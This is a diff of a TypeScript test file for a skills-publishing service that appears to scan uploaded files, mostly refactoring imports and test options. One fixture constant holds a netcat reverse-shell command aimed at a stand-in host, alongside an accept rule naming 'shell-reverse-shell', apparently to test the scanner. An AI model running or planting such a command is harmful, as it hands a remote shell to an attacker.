@@ -5,13 +5,12 @@ import { runInDurableObject } from 'cloudflare:test'
 import { env } from 'cloudflare:workers'
 import { expect, it } from 'vitest'
 import type { Finding } from '../../src/skills/skill.ts'
-import { changedBy, failure, openWorkspace, unbounded, unpaced, value } from './catalog-fixture.ts'
+import { changedBy, failure, openWorkspace, unlimited, unpaced, value } from './catalog-fixture.ts'
 import type { TestWorkspace } from './catalog-fixture.ts'
 import { seedBuild, skillFiles } from './seed-build.ts'
 import { contentReader, isolateCache } from '../../src/skills/store/content-reader.ts'
 import { skillStores } from '../../src/skills/store/content.ts'
 import { publishFiles } from '../../src/skills/publish/publish.ts'
-import { KNOWN_TOOLS } from '../../src/tools/builtins.ts'
 
 const SHELL = '#!/bin/sh\nnc a.example.org 1 -e /bin/sh\n'
 const accept = [{ rule: 'shell-reverse-shell', reason: 'Taught here.' }]
@@ -69,8 +68,7 @@ it('is not carried on when it is purged between the question and the change', as
     content,
     catalog: racing,
     pace: unpaced(),
-    tools: KNOWN_TOOLS,
-    maxBytes: unbounded,
+    ...unlimited,
   }
   const lost = failure(await publishFiles(request, deps))
   expect(lost).toMatchObject({
